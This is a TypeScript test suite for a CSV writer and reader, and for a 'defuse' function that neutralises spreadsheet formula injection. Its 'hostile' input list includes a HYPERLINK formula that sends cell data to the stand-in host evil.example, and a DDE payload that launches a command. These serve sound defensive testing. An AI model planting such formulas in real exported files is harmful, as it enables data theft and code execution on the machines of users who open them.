import fc from "fast-check";
import { describe, expect, it } from "vitest";
import { column, readCsv, writeCsv } from "./csv.ts";
import { readCsvText, writeCsvText } from "./csv-text.ts";
import { defuse, restore } from "./defuse.ts";

interface Row {
  name?: string;
  seats?: number;
  isOpen?: boolean;
  sectors?: string[];
}
const columns = [
  column("name", "text", ({ name }: Row) => name),
  column("seats", "number", ({ seats }: Row) => seats),
  column("is_open", "yes_no", ({ isOpen }: Row) => isOpen),
  column("sectors", "list", ({ sectors }: Row) => sectors),
] as const;

/** What has been used against spreadsheets, and what trips readers of CSV. */
const hostile = [
  '=HYPERLINK("https://evil.example?x="&A1,"Click")',
  "=cmd|' /C calc'!A0",
  "+1+1",
  "-1+1",
  "@SUM(1+1)",
  "\t=1+1",
  "\r=1+1",
  "\n=1+1",
  "＝1+1",
  "＠SUM(1)",
  "'=1+1",
  "''=1+1",
  "'",
  "''",
  "x;=1+1",
  'x;"=1+1',
  ";;'=1",
  '"',
  '""',
  '"a"',
  'a,"b"\r\nc',
  ",",
  "\r\n",
  " leading and trailing ",
  "\ufeff",
  "a|b\\|c",
  "|",
  "\\",
  "true",
  "1e3",
  "#REF!",
  "--",
  "\u0000",
  "ليلى 王小明 👩‍🏫",
];
const pieces = fc.constantFrom(..."=+-@\t\r\n'\";,|\\ ax1", "＝", "＋", "－", "＠", "\ufeff", "é");
const text = fc.oneof(fc.constantFrom(...hostile), fc.string({ unit: pieces, maxLength: 12 }), fc.string({ unit: "binary", maxLength: 8 }));
const filled = text.filter((one) => one !== "");
const row = fc.record(
  {
    name: filled,
    seats: fc.oneof(
      fc.integer(),
      fc.double({ noNaN: true, noDefaultInfinity: true }).map((number) => number + 0),
    ),
    isOpen: fc.boolean(),
    sectors: fc.array(filled, { minLength: 1, maxLength: 4 }),
  },
  { requiredKeys: [] },
);
const asRead = ({ name, seats, isOpen, sectors }: Partial<Row>) => ({
  ...(name === undefined ? {} : { name }),
  ...(seats === undefined ? {} : { seats }),
  ...(isOpen === undefined ? {} : { is_open: isOpen }),
  ...(sectors === undefined ? {} : { sectors }),
});

/** How a spreadsheet that parts cells at this sign reads a file: quotes count where a cell begins with them. */
function cellsPartedAt(sign: string, file: string): string[] {
  const cell = new RegExp(`(?:"((?:[^"]|"")*)(?:"|$))?([^${sign}\\r\\n]*)(?:${sign}|\\r\\n|\\r|\\n|$)`, "g");
  return [...file.matchAll(cell)].map(([, quoted = "", rest = ""]) => quoted.replaceAll('""', '"') + rest);
}
/** And one that knows no quotes. */
const cellsWithoutQuotes = (file: string): string[] => file.replaceAll('"', "").split(/[,;\t\r\n]/);

describe("a CSV file", () => {
  it("reads back as it was written, whatever stands in its cells", () => {
    fc.assert(
      fc.property(fc.array(row, { maxLength: 6 }), fc.boolean(), (rows, byteOrderMark) => {
        const file = writeCsv<Row>(columns, rows, { byteOrderMark });
        expect(readCsv(columns, file)).toEqual({ ok: true, value: rows.map(asRead) });
      }),
      { numRuns: 1000 },
    );
  });

  it("has no cell that a spreadsheet runs, wherever it parts the cells", () => {
    const runs = (cell: string) => /^[\t\r\n]*[=+\-@\uff1d\uff0b\uff0d\uff20]/.test(cell);
    const readings = [",", ";", "\t"].map((sign) => (file: string) => cellsPartedAt(sign, file));
    for (const reading of [...readings.slice(1), cellsWithoutQuotes]) expect(reading('a,"x;\t=1+1"').some(runs), "control").toBe(true);
    for (const reading of readings) expect(reading('"=1+1"').some(runs), "control").toBe(true);
    expect(readings[0]?.('a,"x;=1+1"'), "control").toEqual(["a", "x;=1+1", ""]);
    const onlyText = columns.filter(({ holds }) => holds !== "number");
    fc.assert(
      fc.property(fc.array(row, { maxLength: 4 }), (rows) => {
        const file = writeCsv<Row>(onlyText, rows);
        for (const reading of readings) expect(reading(file).filter(runs)).toEqual([]);
        for (const cell of cellsPartedAt(",", file)) expect(cell).not.toMatch(/^[\t\r]/);
      }),
      { numRuns: 1000 },
    );
  });

  it("ends each record in CR LF, and begins with a byte order mark where asked", () => {
    expect(writeCsv(columns, [])).toBe("name,seats,is_open,sectors\r\n");
    expect(writeCsv(columns, [{ name: "Ada" }], { byteOrderMark: true })).toBe("\ufeffname,seats,is_open,sectors\r\nAda,,,\r\n");
  });

  it("is read whatever the order of its columns, and those of others are passed over", () => {
    const file = "own note,sectors,is_open,seats, name \n?,a|b,TRUE,12,Ada\n";
    expect(readCsv(columns, file)).toEqual({ ok: true, value: [{ name: "Ada", seats: 12, is_open: true, sectors: ["a", "b"] }] });
  });

  it.each([
    ["a column missing", "name,seats\n", { code: "csv_columns_missing", columnIds: ["is_open", "sectors"] }],
    ["no heading", "", { code: "csv_columns_missing", columnIds: ["name", "seats", "is_open", "sectors"] }],
    ["a column twice", "name,seats,is_open,sectors,name\n", { code: "csv_column_twice", columnId: "name" }],
    ["a cell too few", "name,seats,is_open,sectors\na,1,true,\nb,2,true\n", { code: "csv_record_ragged", record: 2, cells: 3, columns: 4 }],
    ["no number", "name,seats,is_open,sectors\na,ten,true,\n", { code: "csv_cell_unreadable", record: 1, columnId: "seats", holds: "number" }],
    ["neither yes nor no", "name,seats,is_open,sectors\na,1,perhaps,\n", { code: "csv_cell_unreadable", record: 1, columnId: "is_open", holds: "yes_no" }],
    ["a quote that opens nothing", 'name,seats,is_open,sectors\na"b,1,true,\n', { code: "csv_quote_misplaced", line: 2 }],
  ])("is refused with %s", (_, file, refusal) => {
    expect(readCsv(columns, file)).toEqual({ ok: false, refusal });
  });

  it("holds finite numbers alone", () => {
    expect(() => writeCsv(columns, [{ seats: Number.NaN }])).toThrow(RangeError);
  });
});

describe("CSV text", () => {
  it("reads back as it was written, an empty line apart", () => {
    fc.assert(
      fc.property(fc.array(fc.array(text, { minLength: 1, maxLength: 4 })), (records) => {
        expect(readCsvText(writeCsvText(records))).toEqual({ ok: true, value: records });
      }),
    );
  });

  it.each([
    ["LF alone", "a,b\n1,2\n"],
    ["CR alone", "a,b\r1,2\r"],
    ["no end to the last line", "a,b\r\n1,2"],
    ["empty lines", "\r\na,b\r\n\r\n1,2\r\n\r\n"],
    ["quotes where none are needed", '"a","b"\r\n"1","2"\r\n'],
    ["a byte order mark", "\ufeffa,b\r\n1,2\r\n"],
  ])("is read with %s", (_, file) => {
    expect(readCsvText(file)).toEqual({
      ok: true,
      value: [
        ["a", "b"],
        ["1", "2"],
      ],
    });
  });

  it("keeps an empty cell at the end of a record", () => {
    expect(readCsvText("a,\n,")).toEqual({
      ok: true,
      value: [
        ["a", ""],
        ["", ""],
      ],
    });
  });

  it.each([
    ['a\n"b', 2],
    ['"a"b', 1],
    ['a\r\n"x\ny"\nb"', 4],
  ])("%j is refused with its line", (file, line) => {
    expect(readCsvText(file)).toEqual({ ok: false, refusal: { code: "csv_quote_misplaced", line } });
  });

  it("of a megabyte in one cell is read at once", () => {
    const long = '""'.repeat(500_000);
    expect(readCsvText(`"${long}"`)).toEqual({ ok: true, value: [['"'.repeat(500_000)]] });
  });
});

describe("defuse", () => {
  it("is undone by restore, and leaves what begins no formula as it was", () => {
    fc.assert(fc.property(text, (one) => restore(defuse(one)) === one));
    for (const harmless of ["O'Neill - Example", "Parker-Example", "a@example.org", "1-2", "C++"]) expect(defuse(harmless)).toBe(harmless);
  });
});
